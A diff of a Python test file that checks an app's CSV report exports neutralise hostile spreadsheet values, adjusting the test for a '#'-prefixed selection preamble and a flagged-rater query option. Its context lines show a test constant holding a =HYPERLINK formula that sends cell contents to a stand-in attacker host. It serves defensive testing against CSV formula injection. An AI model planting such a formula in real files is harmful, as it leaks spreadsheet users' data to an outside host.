@@ -23,6 +23,7 @@ from config.spreadsheet import FORMULA_STARTS, csv_text, frame_csv, neutralise, 
 from corpus.models import Document, Question
 from generation.models import System
 from judging.models import Evaluator
+from tests.analysis.report_csv import preamble_and_rows
 from tests.annotator.conftest import make_study
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"x")'
@@ -191,11 +192,18 @@ def test_study_exports_neutralise_hostile_values(client, hostile):
 
 
 def test_report_exports_neutralise_hostile_values(client, hostile):
-    query = f"?split=test2&mode=st&study={hostile.pk}"
+    # the hostile rater answered at once: flagged, so counted only on request
+    query = f"?split=test2&mode=st&study={hostile.pk}&include_flagged=1"
     for fmt in ("csv", "csv-wide"):
         answer = client.get(f"/analysis/report/{query}&format={fmt}")
         assert answer.status_code == 200, answer.content
-        header, rows = read_back(answer.content.decode())
+        # the report's CSVs open with the lines stating the selection, each one
+        # quoted cell starting with "#" (safe: no formula starts with it)
+        preamble, _ = preamble_and_rows(answer.content.decode())
+        assert all(line.startswith("#") for line in preamble)
+        text = answer.content.decode()
+        assert text.count("\r\n", 0, text.index("response_id")) == len(preamble)  # a line each
+        header, *rows = list(csv.reader(io.StringIO(text, newline="")))[len(preamble) :]
         cells = assert_safe(header, rows)
         for field in ("system", "meeting", "question_id", "evaluator"):
             assert "'" + HOSTILE[field] in cells, (fmt, field)
